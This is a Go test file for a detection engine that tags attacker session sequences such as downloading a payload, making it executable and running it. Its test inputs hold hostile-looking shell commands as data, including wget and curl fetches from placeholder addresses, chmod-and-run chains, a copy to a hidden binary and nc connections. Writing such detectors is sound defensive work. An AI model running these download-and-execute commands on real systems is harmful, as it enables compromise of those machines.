package engine

import (
	"strings"
	"testing"

	"ttpctl/internal/event"
)

// payloadOf makes a payload event of `field=value` words.
func payloadOf(fields string) event.Event {
	ev := event.Event{SourceID: "s#file", AttackerUUID: "a", SessionID: event.Some("s"), Time: testNow}
	ev.SetKind("payload")
	for word := range strings.FieldsSeq(fields) {
		name, value, _ := strings.Cut(word, "=")
		v := event.StringValue(value)
		if name == "size" {
			v = event.NumberValue(float64(len(strings.TrimLeft(value, "0"))))
		}
		ev.SetField(name, v)
	}
	return ev
}

// mixed makes events of lines and, behind `payload:`, of payloads.
func mixed(lines ...string) []event.Event {
	events := sessionOf("s", lines...)
	for i, line := range lines {
		if fields, ok := strings.CutPrefix(line, "payload:"); ok {
			events[i] = payloadOf(fields)
		}
	}
	return events
}

func TestSequenceWithPayloads(t *testing.T) {
	const (
		thenRun  = "  sequence: {over: session, within: {minutes: 9}, same: file, steps: [{kind: payload, any_of: [{field: shasum, pattern: .}, {field: url, pattern: .}]}, {effect: {runs: any}}]}"
		fetched  = "  sequence: {over: session, within: {minutes: 9}, same: file, steps: [{effect: {fetches: any}}, {kind: payload, field: origin, equals: download}]}"
		twice    = "  sequence: {over: session, within: {minutes: 9}, same: file, steps: [{kind: payload, field: origin, equals: upload}, {kind: payload, field: origin, equals: redirect}]}"
		oneHost  = "  sequence: {over: session, within: {minutes: 9}, same: host, steps: [{kind: payload, field: url, pattern: '(?i)http'}, {effect: {connects: any}}]}"
		hostBack = "  sequence: {over: session, within: {minutes: 9}, same: host, steps: [{effect: {fetches: any}}, {kind: payload, field: origin, equals: download}]}"
	)
	tests := []struct {
		rule  string
		lines []string
		want  int
	}{
		{thenRun, []string{"payload: filename=/tmp/x shasum=ab", "/tmp/x"}, 1},
		{thenRun, []string{"payload: filename=/root/x shasum=ab", "~/x"}, 1},
		{thenRun, []string{"payload: filename=x shasum=ab", "cd /tmp; ./x"}, 1},
		{thenRun, []string{"payload: filename=/tmp/x shasum=ab", "/tmp/y"}, 0},
		{thenRun, []string{"payload: filename=/tmp/x shasum=ab", "mv /tmp/x /tmp/y", "/tmp/y"}, 1},
		{thenRun, []string{"/tmp/x", "payload: filename=/tmp/x shasum=ab"}, 0},
		{thenRun, []string{"payload: url=http://192.0.2.1/d/x?a=1 shasum=ab", "sh 'x?a=1'"}, 1},
		{thenRun, []string{"payload: url=/dev/null shasum=ab", "/dev/null; sh null"}, 0},
		{fetched, []string{"wget http://192.0.2.1/d/x", "payload: url=http://192.0.2.1/d/x shasum=ab origin=download"}, 1},
		{fetched, []string{"wget http://192.0.2.1/d/x", "payload: url=http://192.0.2.1/d/y shasum=ab origin=download"}, 0},
		{twice, []string{"payload: filename=a shasum=AB origin=upload", "payload: filename=/tmp/b shasum=ab origin=redirect"}, 1},
		{twice, []string{"payload: filename=a shasum=ab size=0 origin=upload", "payload: filename=/tmp/b shasum=ab size=0 origin=redirect"}, 0},
		{twice, []string{"payload: filename=a shasum=ab origin=upload", "payload: filename=/tmp/b shasum=cd origin=redirect"}, 0},
		{oneHost, []string{"payload: url=HTTP://H.test:81/x", "nc h.test 99"}, 1},
		{oneHost, []string{"payload: url=http://h.test/x", "nc g.test 99"}, 0},
		{oneHost, []string{"payload: url=http://[2001:DB8::1]/x", "nc 2001:db8:0::1 99"}, 1},
		{hostBack, []string{"curl http://0xc0000201/a", "payload: url=http://192.0.2.1/d/x origin=download"}, 1},
	}
	for _, tt := range tests {
		rs := compileRule(t, "command, payload", tt.rule)
		if got := playEvents(rs, NewStage(), mixed(tt.lines...)); len(got) != tt.want {
			t.Errorf("%q gives %v, want %d tags of\n%s", tt.lines, got, tt.want, tt.rule)
		}
	}
}

func TestSequenceFollowsCopies(t *testing.T) {
	const over = "  sequence: {over: session, within: {minutes: 30}, same: file, steps: [{effect: {fetches: any}}, {effect: {mode: {how: executable}}}, {effect: {runs: any}}]}"
	line := strings.Replace(over, "over: session, within: {minutes: 30}, ", "", 1)
	const get = "wget -O /tmp/a http://192.0.2.1/x"
	tests := []struct {
		lines []string
		want  int
	}{
		{[]string{get, "mv /tmp/a /tmp/b", "chmod +x /tmp/b", "/tmp/b"}, 1},
		{[]string{get, "chmod +x /tmp/a", "cp /tmp/a /usr/bin/.b", "sh /usr/bin/.b"}, 1},
		{[]string{get, "chmod +x /tmp/a", "cp /tmp/a /tmp/b", "/tmp/a"}, 1},
		{[]string{get, "cd /tmp; mv a b; chmod 755 b; ./b"}, 1},
		{[]string{get, "cd /tmp", "mv a b", "mv b c", "chmod 755 c; ./c"}, 1},
		{[]string{get, "cat /tmp/a > /tmp/b; chmod +x /tmp/b; /tmp/b"}, 1},
		{[]string{"wget -O /tmp/a.gz http://192.0.2.1/x; gunzip /tmp/a.gz; chmod +x /tmp/a; /tmp/a"}, 1},
		{[]string{"mv /tmp/a /tmp/b; " + get, "chmod +x /tmp/b", "/tmp/b"}, 0},
		{[]string{get, "mv /tmp/z /tmp/b", "chmod +x /tmp/b", "/tmp/b"}, 0},
		{[]string{get, "cat /tmp/a /tmp/z > /tmp/b", "chmod +x /tmp/b", "/tmp/b"}, 0},
		{[]string{get, "mv /tmp/a /tmp/b; mv /tmp/b /tmp/a; mv /tmp/a /tmp/b", "chmod +x /tmp/b; /tmp/b"}, 1},
	}
	for _, tt := range tests {
		if got := playEvents(compileRule(t, "command", over), NewStage(), sessionOf("s", tt.lines...)); len(got) != tt.want {
			t.Errorf("%q gives %v, want %d tags", tt.lines, got, tt.want)
		}
		if got := playEvents(compileRule(t, "command", line), NewStage(), sessionOf("s", strings.Join(tt.lines, "; "))); len(got) != tt.want {
			t.Errorf("%q as one line gives %v, want %d tags", tt.lines, got, tt.want)
		}
	}
}

func TestSequenceOfOneProcess(t *testing.T) {
	rs := compileRule(t, "command", "  sequence: {over: session, within: {minutes: 30}, same: process, steps: [{effect: {runs: any}}, {effect: {kills: any}}]}")
	for _, tt := range []struct {
		lines []string
		want  int
	}{
		{[]string{"/tmp/miner &", "pkill miner"}, 1},
		{[]string{"/tmp/miner &", "ps | grep miner | awk '{print $1}' | xargs kill"}, 1},
		{[]string{"/tmp/miner &", "pkill other"}, 0},
	} {
		if got := playEvents(rs, NewStage(), sessionOf("s", tt.lines...)); len(got) != tt.want {
			t.Errorf("%q gives %v, want %d tags", tt.lines, got, tt.want)
		}
	}
}
